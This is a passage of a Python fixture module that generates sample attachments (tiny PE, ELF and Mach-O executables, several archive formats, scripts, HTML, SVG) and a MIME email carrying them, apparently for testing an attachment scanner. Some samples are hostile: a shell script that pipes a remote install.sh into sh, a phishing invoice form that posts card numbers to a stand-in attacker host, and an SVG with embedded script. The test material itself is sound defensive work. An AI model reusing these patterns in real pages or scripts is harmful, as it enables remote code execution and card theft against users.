    section = struct.pack(
        "<8sIIIIIIHHI",
        b".text",
        1,
        text_rva,
        file_align,
        file_align,
        0,
        0,
        0,
        0,
        0x60000020,  # code, execute, read
    )
    headers = (bytes(dos) + b"PE\0\0" + coff + optional + section).ljust(file_align, b"\0")
    code = b"\xc3".ljust(file_align, b"\0")  # ret
    return headers + code


def elf() -> bytes:
    """A 64-bit little-endian x86-64 Linux ELF executable that calls exit(0)."""
    base = 0x400000
    code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"  # mov eax, 60; xor edi, edi; syscall
    ehsize, phsize = 64, 56
    entry = base + ehsize + phsize
    ident = b"\x7fELF" + bytes((2, 1, 1, 0)) + bytes(8)
    header = ident + struct.pack(
        "<HHIQQQIHHHHHH", 2, 0x3E, 1, entry, ehsize, 0, 0, ehsize, phsize, 1, 64, 0, 0
    )
    filesz = ehsize + phsize + len(code)
    program = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, filesz, filesz, 0x1000)  # PT_LOAD r-x
    return header + program + code


def macho() -> bytes:
    """A 64-bit x86-64 Mach-O executable header with one LC_SEGMENT_64 (__PAGEZERO)."""
    segment = struct.pack(
        "<II16sQQQQiiII", 0x19, 72, b"__PAGEZERO", 0, 0x100000000, 0, 0, 0, 0, 0, 0
    )
    header = struct.pack(
        "<IiiIIIII",
        0xFEEDFACF,  # MH_MAGIC_64
        0x01000007,  # CPU_TYPE_X86_64
        3,  # CPU_SUBTYPE_X86_64_ALL
        2,  # MH_EXECUTE
        1,
        len(segment),
        0x00200085,  # NOUNDEFS | DYLDLINK | TWOLEVEL | PIE
        0,
    )
    return (header + segment).ljust(512, b"\0")


# --- archives ------------------------------------------------------------------------------

_ARCHIVED_NAME = "readme.txt"
_ARCHIVED_TEXT = f"Photos for order {ORDER_ID} are attached.\n".encode("ascii")


def zip_archive() -> bytes:
    """A zip archive holding one text file."""
    return _zip([(_ARCHIVED_NAME, _ARCHIVED_TEXT)])


def _vint(value: int) -> bytes:
    """RAR 5 variable-length integer: 7 bits a byte, high bit set on all but the last."""
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def _rar_block(fields: bytes, data: bytes = b"") -> bytes:
    header = _vint(len(fields)) + fields
    return struct.pack("<I", zlib.crc32(header)) + header + data


def rar() -> bytes:
    """A RAR 5 archive holding one stored (uncompressed) text file."""
    main = _rar_block(_vint(1) + _vint(0) + _vint(0))  # main header, no flags
    name = _ARCHIVED_NAME.encode()
    file_fields = (
        _vint(2)  # file header
        + _vint(0x0002)  # data area present
        + _vint(len(_ARCHIVED_TEXT))
        + _vint(0x0004)  # file flags: CRC32 present
        + _vint(len(_ARCHIVED_TEXT))  # unpacked size
        + _vint(0o644)  # attributes
        + struct.pack("<I", zlib.crc32(_ARCHIVED_TEXT))
        + _vint(0)  # compression: version 0, method 0 (store)
        + _vint(1)  # host OS: Unix
        + _vint(len(name))
        + name
    )
    entry = _rar_block(file_fields, _ARCHIVED_TEXT)
    end = _rar_block(_vint(5) + _vint(0) + _vint(0))  # end of archive
    return b"Rar!\x1a\x07\x01\x00" + main + entry + end


def _7z_number(value: int) -> bytes:
    """7-Zip's variable-length number: leading one-bits of the first byte count extra bytes."""
    for extra in range(8):
        if value < 1 << (7 * (extra + 1)):
            high = value >> (8 * extra)
            first = (0xFF << (8 - extra)) & 0xFF | high
            return bytes((first,)) + value.to_bytes(8, "little")[:extra]
    return b"\xff" + value.to_bytes(8, "little")


def seven_zip() -> bytes:
    """A 7z archive holding one text file, stored with the Copy method."""
    data = _ARCHIVED_TEXT
    size = _7z_number(len(data))
    name = _ARCHIVED_NAME.encode("utf-16-le") + b"\0\0"
    header = (
        b"\x01"  # Header
        + b"\x04"  # MainStreamsInfo
        + b"\x06\x00\x01\x09"  # PackInfo: pack pos 0, 1 pack stream, Size
        + size
        + b"\x00"
        + b"\x07\x0b\x01\x00"  # UnpackInfo: Folder, 1 folder, not external
        + b"\x01\x01\x00"  # 1 coder: id size 1, simple; id 00 = Copy
        + b"\x0c"  # CodersUnpackSize
        + size
        + b"\x00"
        + b"\x08\x0a\x01"  # SubStreamsInfo: CRC, all defined
        + struct.pack("<I", zlib.crc32(data))
        + b"\x00"
        + b"\x00"  # end of MainStreamsInfo
        + b"\x05\x01"  # FilesInfo: 1 file
        + b"\x11"  # Name
        + _7z_number(len(name) + 1)
        + b"\x00"  # not external
        + name
        + b"\x00"  # end of FilesInfo
        + b"\x00"  # end of Header
    )
    start = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    signature = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start
    return signature + data + header


def gzip_blob() -> bytes:
    """A gzip stream of a short text."""
    return gzip.compress(_ARCHIVED_TEXT, mtime=_MTIME)


def tar_blob() -> bytes:
    """A POSIX ustar archive holding one text file."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo(_ARCHIVED_NAME)
        info.size = len(_ARCHIVED_TEXT)
        info.mtime = _MTIME
        info.mode = 0o644
        info.uname = info.gname = "seller"
        tar.addfile(info, io.BytesIO(_ARCHIVED_TEXT))
    return buf.getvalue()


# --- scripts and markup --------------------------------------------------------------------


def shell_script() -> bytes:
    """A POSIX shell script."""
    return (
        b"#!/bin/sh\n"
        b"# Install the order tracker\n"
        b"set -eu\n"
        b'curl -fsSL "https://tracker.example/install.sh" | sh\n'
        b'echo "done"\n'
    )


def javascript() -> bytes:
    """Plain JavaScript source, no shebang."""
    return (
        b"'use strict';\n"
        b"function openOrder(id) {\n"
        b"  var url = 'https://tracker.example/order?id=' + encodeURIComponent(id);\n"
        b"  window.location.href = url;\n"
        b"}\n"
        b"document.addEventListener('DOMContentLoaded', function () {\n"
        b"  openOrder('" + ORDER_ID.encode() + b"');\n"
        b"});\n"
    )


def html_attachment() -> bytes:
    """A stand-alone HTML page, as sent by phishing kits and invoice tools alike."""
    return (
        '<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n'
        "<title>Invoice</title>\n</head>\n<body>\n"
        f"<h1>Invoice for order {ORDER_ID}</h1>\n"
        "<p>Amount due: $24.99</p>\n"
        '<form action="https://pay.attacker.example/collect" method="post">'
        '<input name="card"><button>Pay now</button></form>\n'
        "<script>document.forms[0].card.focus();</script>\n"
        "</body>\n</html>\n"
    ).encode()


def svg() -> bytes:
    """An SVG image carrying a script and a remote reference, as SVG files can."""
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
        b' width="16" height="16" viewBox="0 0 16 16">\n'
        b'  <rect width="16" height="16" fill="#4472c4"/>\n'
        b'  <image xlink:href="https://tracker.example/pixel.png" width="1" height="1"/>\n'
        b"  <script>alert(document.domain)</script>\n"
        b"</svg>\n"
    )


# --- a message carrying them ---------------------------------------------------------------


def mime_with_attachments(
    sender: str, to: str, subject: str, body: str, files: list[tuple[str, bytes, str]]
) -> bytes:
    """A multipart/mixed message: a text/plain body, then each (filename, data, content type).

    The declared content type is used as given, however wrong it is for the data; every part
    is base64-encoded. Returns wire bytes with CRLF line endings.
    """
    msg = EmailMessage(policy=policy.SMTP)
    msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = formatdate(_MTIME, localtime=False)
    msg["Message-ID"] = make_msgid(domain=sender.rpartition("@")[2].strip("> ") or None)
    msg["MIME-Version"] = "1.0"
    msg.set_content(body)
    msg.make_mixed()
    for filename, data, ctype in files:
        maintype, _, subtype = ctype.partition("/")
        part = MIMEPart(policy=policy.SMTP)
        part.set_content(
            data,
            maintype=maintype or "application",
            subtype=subtype or "octet-stream",
            disposition="attachment",
            filename=filename,
        )
        msg.attach(part)
    return msg.as_bytes(policy=policy.SMTP)
